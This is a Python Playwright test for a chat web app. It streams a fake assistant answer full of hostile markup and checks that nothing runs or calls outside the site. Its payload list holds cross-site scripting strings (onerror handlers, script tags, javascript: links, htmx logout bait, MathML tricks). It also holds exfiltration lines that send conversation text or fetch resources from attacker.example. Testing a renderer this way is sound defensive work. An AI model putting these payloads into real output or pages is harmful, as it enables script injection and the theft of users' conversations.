"""A hostile answer, streamed into a real page: nothing runs, nothing is fetched."""

from __future__ import annotations

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.browser.conftest import sign_up
from tests.fake_openai import FakeUpstream, Stream
from tests.test_rendering import HOSTILE

pytestmark = pytest.mark.browser

SENTINEL_ATTACKS = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    '<svg onload="window.__pwned=1"></svg>',
    "[click me](javascript:window.__pwned=1)",
    '<div hx-get="/accounts/logout/" hx-trigger="load">htmx bait</div>',
    '<p hx-swap-oob="innerHTML:#composer-controls">owned</p>',
    "![leak](https://attacker.example/collect?q=the-secret-conversation)",
    '<iframe src="https://attacker.example/"></iframe>',
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    '<form action="https://attacker.example/"><button>Submit</button></form>',
    "<style>@import url(https://attacker.example/x.css);</style>",
    # Formulas are rendered into MathML: what they say must stay text.
    '$\\text{<img src=x onerror="window.__pwned=1">}$',
    "$\\href{javascript:window.__pwned=1}{click}$",
    "$$\n\\text{<script>window.__pwned=1</script>}\n$$",
    "\\(\\style{background:url(https://attacker.example/m.png)}{x}\\)",
]


def test_a_hostile_streamed_answer_runs_nothing_and_fetches_nothing(
    page: Page, site: str, fake_server: FakeUpstream
) -> None:
    answer = "\n\n".join(SENTINEL_ATTACKS + HOSTILE) + "\n\nThe end."
    # Small pieces: every half-written construct is rendered mid-stream too.
    pieces = [answer[i : i + 7] for i in range(0, len(answer), 7)]
    fake_server.enqueue(Stream(pieces, interval=0.002))

    dialogs: list[str] = []
    requests: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("request", lambda r: requests.append(r.url))
    page.add_init_script(
        "window.__csp = [];"
        "document.addEventListener('securitypolicyviolation',"
        " e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    sign_up(page, site)
    page.fill("#new-message", "Please repeat the following.")
    page.press("#new-message", "Enter")
    page.wait_for_url(f"{site}/conversations/*/")
    done = page.locator('#messages [data-role="assistant"][data-status="complete"]')
    expect(done).to_be_visible(timeout=30_000)
    expect(done.locator(".message-text")).to_contain_text("The end.")
    page.reload()  # the saved answer, rendered by the page itself
    expect(done.locator(".message-text")).to_contain_text("The end.")
    page.wait_for_timeout(500)

    assert dialogs == []
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate("window.__csp") == []
    assert [u for u in requests if not u.startswith((site, "ws://127.0.0.1"))] == []
    # The bait stayed text and the page's own controls are intact.
    expect(page.locator("#send-button")).to_be_visible()
    assert (
        page.locator(
            ".message-body img, .message-body iframe, .message-body form, .message-body svg"
        ).count()
        == 0
    )
    assert page.problems == []  # type: ignore[attr-defined]
